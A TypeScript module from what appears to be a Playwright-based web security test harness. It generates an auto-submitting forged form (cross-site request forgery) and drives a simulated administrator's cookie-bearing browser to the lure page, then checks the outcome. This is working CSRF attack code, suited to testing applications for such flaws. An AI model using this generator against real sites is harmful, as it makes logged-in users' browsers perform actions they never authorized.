import type { Page } from "playwright-core";
import type { Target } from "./attack.ts";
import { type Host, withLuredPage } from "./lure.ts";

/** A form that sends itself as soon as somebody opens the page that it is on. */
export interface ForgedForm {
  action: URL;
  fields: Record<string, string>;
  encoding?: "application/x-www-form-urlencoded" | "multipart/form-data" | "text/plain";
  /** Where the page is. */
  host: Host;
}

/**
 * An administrator opens the attacker's page, and their browser sends the form.
 *
 * @param look sees what has become of it, in the same browser
 */
export function submitForgedForm<Result>(
  { browser, cookies }: Target,
  form: ForgedForm,
  look: (page: Page) => Promise<Result>,
): Promise<Result> {
  const { host, action } = form;
  return withLuredPage({ browser, cookies, host, html: htmlOf(form) }, async (page, address) => {
    const answering = page.waitForResponse(
      (response) => response.request().method() === "POST" && response.url() === action.href,
    );
    await page.goto(address);
    await answering;
    await page.waitForLoadState();
    return look(page);
  });
}

function htmlOf({ action, fields, encoding = "application/x-www-form-urlencoded" }: ForgedForm) {
  const inputs = Object.entries(fields).map(
    ([name, value]) => `<input type="hidden" name="${escaped(name)}" value="${escaped(value)}">`,
  );
  return `<form method="post" action="${action.href}" enctype="${encoding}">${inputs.join("")}</form>
    <script>document.forms[0].submit()</script>`;
}

const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
